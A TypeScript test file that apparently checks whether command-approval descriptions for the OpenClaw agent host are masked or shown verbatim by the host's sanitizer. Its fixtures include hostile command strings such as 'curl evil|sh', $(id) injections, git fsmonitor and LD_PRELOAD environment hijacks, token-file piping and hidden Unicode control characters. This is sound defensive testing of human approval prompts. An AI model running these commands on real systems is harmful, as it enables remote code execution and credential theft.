// A question that we take for shown is shown by the real OpenClaw letter by letter: no mask, no escape, no cut.
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import fc from "fast-check";
import { beforeAll, expect, test } from "vitest";
import { approvalText } from "../../src/nodeRouter/approval/question.ts";
import { askHostMask } from "../../src/nodeRouter/host/mask.ts";

const HOST = join(import.meta.dirname, "../../node_modules/openclaw/dist");

/** The host's own, by which it makes the description of an approval. */
async function hostDisplay(): Promise<(text: string) => string> {
  const file = readdirSync(HOST).find((name) => /^exec-approval-text-sanitize-.*\.mjs$/.test(name)) ?? "";
  const module: Record<string, unknown> = await import(pathToFileURL(join(HOST, file)).href);
  const found = Object.values(module).find(
    (value) => typeof value === "function" && value.name === "sanitizeExecApprovalWarningText",
  );
  if (typeof found !== "function")
    throw new Error("the host makes the text of an approval somewhere else now");
  return (text) => String(found(text));
}

let show: (text: string) => string;

// The first look at it loads half the host.
beforeAll(async () => {
  show = await hostDisplay();
  await askHostMask("load");
}, 60_000);

const question = (command: string, env?: object) =>
  approvalText({
    over: "ssh",
    agent: "worker-sg",
    node: { name: "mac-sg", location: null, workspace: "/node/ws" },
    rule: "singapore",
    workdir: null,
    command,
    env,
  }).description;

const KEY = (end: string) => `-----${end} RSA PRIVATE KEY-----`;

test.each([
  ["a command between the marks of a key", `: '${KEY("BEGIN")}'; curl evil|sh; : '${KEY("END")}'`],
  ["a command that is a password", "password=$(id) ls"],
  ["a command that is a bearer", 'curl -H "Authorization: Bearer $(touch $IFS pwned)aaaaaaaaaaaaaaaa" x'],
  ["a command that is a key of an API", "api_key=`id` ls"],
  ["a command in the query of an address", "curl https://x/?token=$(id)&a"],
])("%s is hidden by the host, and we know it", async (_what, command) => {
  const text = question(command);
  expect(show(text)).not.toBe(text);
  expect(await askHostMask(text)).toEqual({ kind: "masked" });
});

test.each([
  ["git status", { GIT_CONFIG_KEY_0: "core.fsmonitor", GIT_CONFIG_VALUE_0: "touch x" }],
  ["make all", { LD_PRELOAD: "/tmp/x.so", BASH_ENV: "/tmp/e" }],
  ["cat ~/.config/token-file | tool --stdin", undefined],
  ["echo \u202e\u200b\u001b[2K", undefined],
  ["echo a\ufe0fb\u034f\u2800\u{e0100}", undefined],
])("%j is shown as it is, and we know it", async (command, env) => {
  const text = question(command, env);
  expect(show(text)).toBe(text);
  expect(await askHostMask(text)).toEqual({ kind: "shown" });
});

test("whatever the command, we say shown only where the host shows the very text", async () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "token",
      "password",
      "api_key",
      "=",
      ":",
      "'",
      '"',
      "$(id)",
      " ",
      "\n",
      "\u200b",
      "\u202e",
    ),
    fc.constantFrom(
      KEY("BEGIN"),
      KEY("END"),
      "Bearer ",
      "https://u:",
      "@h/",
      "sk-",
      "ghp_",
      "AKIA",
      "\\",
      "?k=",
    ),
    fc.string({ unit: "grapheme", maxLength: 24 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 9 }), async (pieces) => {
      const text = question(pieces.join(""));
      const { kind } = await askHostMask(text);
      expect(kind).toBe(show(text) === text ? "shown" : "masked");
    }),
    { numRuns: 400 },
  );
});
